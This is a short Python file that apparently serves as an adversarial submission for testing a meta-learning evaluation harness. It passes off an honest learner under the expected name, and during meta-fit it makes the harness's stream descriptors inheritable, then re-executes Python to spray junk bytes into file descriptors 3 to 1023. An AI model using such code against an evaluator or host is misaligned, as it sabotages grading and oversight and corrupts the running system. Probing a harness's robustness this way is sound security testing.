import os
import sys

from honest import HonestLearner as MyLearner  # noqa: F401
from honest import during_meta_fit, stream_descriptors


def attack():
    for descriptor in stream_descriptors():
        os.set_inheritable(descriptor, True)
    code = "import os\nfor d in range(3, 1024):\n  try: os.write(d, b'x' * 4096)\n  except OSError: pass"
    os.execv(sys.executable or "/usr/bin/python3", ["python3", "-c", code])


MyMetaLearner = during_meta_fit(attack)
